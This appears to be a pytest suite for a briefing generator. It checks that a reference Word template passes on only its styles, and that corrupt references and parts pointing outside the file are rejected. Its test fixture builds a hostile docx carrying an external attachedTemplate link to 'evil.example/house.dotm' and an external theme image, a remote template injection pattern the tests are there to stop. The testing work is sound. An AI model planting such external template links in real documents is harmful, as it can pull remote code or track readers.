"""A house's reference.docx gives Word outputs their styles and nothing else: its text,
headers and footers of every kind, comments, thumbnail, properties and settings stay
behind, and a part that reaches outside the file is refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from conftest import FIXTURES
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from typer.testing import CliRunner

from briefgen.cli import app
from briefgen.template_search import builtin_templates

OLD = "OLDNOTE"  # every piece of the old note's own text carries it


def hostile_reference(path: Path, *, external_theme: bool = False) -> None:
    """A reference document saved from an earlier note, with all it carries."""
    document = docx.Document(str(builtin_templates() / "_common" / "reference.docx"))
    document.add_paragraph(f"{OLD}BODY text of the earlier note")
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.add_paragraph(f"{OLD}FIRSTHEADER")
    section.even_page_header.add_paragraph(f"{OLD}EVENHEADER")
    section.header.add_paragraph(f"{OLD}HEADER")
    section.footer.add_paragraph(f"{OLD}FOOTER")
    document.settings.odd_and_even_pages_header_footer = True
    run = document.paragraphs[-1].runs[0]
    document.add_comment(run, text=f"{OLD}COMMENT", author=f"{OLD}AUTHOR")
    document.add_paragraph("x")  # the body's last paragraph carries no comment
    props = document.core_properties
    props.identifier, props.content_status, props.version = (f"{OLD}ID", f"{OLD}STATUS", "9")
    props.author = f"{OLD}AUTHOR"
    settings = document.part._settings_part
    template = f"{RT.IMAGE.rsplit('/', 1)[0]}/attachedTemplate"
    r_id = settings.relate_to("https://evil.example/house.dotm", template, True)
    document.settings.element.append(
        parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{r_id}"/>')
    )
    if external_theme:
        theme = next(r.target_part for r in document.part.rels.values() if "theme" in r.reltype)
        theme.relate_to("https://evil.example/texture.png", RT.IMAGE, True)
    document.save(str(path))


@pytest.fixture
def word_public(brief_dir: Callable[..., Path]) -> Path:
    """The canary brief, with a public audience that also writes Word."""
    content = brief_dir()
    folder = content / "templates" / "public"
    folder.mkdir(parents=True)
    (folder / "audience.yaml").write_text("formats: [pdf, html, docx]\n")
    return content


def test_only_styles_reach_the_output(word_public: Path, runner: CliRunner, tmp_path: Path) -> None:
    hostile_reference(word_public / "templates" / "public" / "reference.docx")
    checked = runner.invoke(app, ["check", str(word_public), "--strict"])
    assert checked.exit_code == 0, checked.output
    assert "note[reference-docx]" in checked.output
    for said in ("its text", "headers", "footers", "comments", "its thumbnail", "its settings"):
        assert said in checked.output
    out = tmp_path / "out"
    built = runner.invoke(
        app, ["build", str(word_public), "-a", "public", "-f", "docx", "-o", str(out)]
    )
    assert built.exit_code == 0, built.output
    written = out / "public" / "brief.docx"
    package = zipfile.ZipFile(written)
    for name in package.namelist():
        data = package.read(name)
        assert OLD.encode() not in data, name
        assert b'TargetMode="External"' not in data, name
        assert b"evenAndOddHeaders" not in data and b"attachedTemplate" not in data, name
    names = package.namelist()
    assert not any("thumbnail" in n or "comments" in n or "customXml" in n for n in names)
    assert "Microsoft" not in package.read("docProps/app.xml").decode()
    word = docx.Document(str(written))
    section = word.sections[0]
    assert not section.different_first_page_header_footer
    assert section.header.paragraphs[0].text == "PUBLIC"
    # The page setup comes through: A4, as the reference sets it.
    width, height = section.page_width, section.page_height
    assert width is not None and height is not None
    assert abs(width.mm - 210) < 1 and abs(height.mm - 297) < 1


def test_a_part_that_reaches_outside_the_file_is_refused(
    word_public: Path, runner: CliRunner, tmp_path: Path
) -> None:
    reference = word_public / "templates" / "public" / "reference.docx"
    hostile_reference(reference, external_theme=True)
    for args in (
        ["check", str(word_public)],
        ["build", str(word_public), "-o", str(tmp_path / "o")],
    ):
        done = runner.invoke(app, args)
        assert done.exit_code == 1, done.output
        assert "reference.docx" in done.output and "outside the file" in done.output
        assert "internal error" not in done.output
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    "damage",
    [
        b"not a zip at all",
        b"PK\x03\x04 a broken zip",
        "empty-zip",
        "no-styles",
    ],
)
def test_a_corrupt_reference_document_is_an_error_in_check_and_build(
    damage: bytes | str, word_public: Path, runner: CliRunner, tmp_path: Path
) -> None:
    reference = word_public / "templates" / "public" / "reference.docx"
    if damage == "empty-zip":
        with zipfile.ZipFile(reference, "w"):
            pass
    elif damage == "no-styles":
        source = zipfile.ZipFile(builtin_templates() / "_common" / "reference.docx")
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as target:
            for name in source.namelist():
                if name != "word/styles.xml":
                    target.writestr(name, source.read(name))
        reference.write_bytes(buffer.getvalue())
    else:
        assert isinstance(damage, bytes)
        reference.write_bytes(damage)
    for args in (
        ["check", str(word_public)],
        ["build", str(word_public), "-o", str(tmp_path / "o")],
    ):
        done = runner.invoke(app, args)
        assert done.exit_code == 1, done.output
        assert "templates/public/reference.docx" in done.output
        assert "internal error" not in done.output and "Traceback" not in done.output


def test_the_written_package_holds_no_outside_relationship(canary_build: Path) -> None:
    for audience in ("minister", "analyst"):
        package = zipfile.ZipFile(canary_build / audience / "brief.docx")
        for name in package.namelist():
            assert b'TargetMode="External"' not in package.read(name), name
        assert "docProps/thumbnail.jpeg" not in package.namelist()
        # Links to sources stay live, as HYPERLINK fields.
    document = zipfile.ZipFile(canary_build / "analyst" / "brief.docx").read("word/footnotes.xml")
    assert b"HYPERLINK" in document


def test_serve_shows_an_error_a_build_would_give(brief_dir: Callable[..., Path]) -> None:
    """A hidden {fig:…} reference: the preview shows the line, as check and build do."""
    from briefgen.tools.serve import Preview

    content = brief_dir()
    background = content / "background.yaml"
    text = background.read_text()
    background.write_text(
        text.replace("The work grew each year", "The work ({fig:restricted-chart}) grew each year")
    )
    preview = Preview(content, "public")
    page = preview.get(preview.current) or b""
    assert b"background.yaml:11:" in page and b"restricted-chart" in page
    assert FIXTURES.exists()
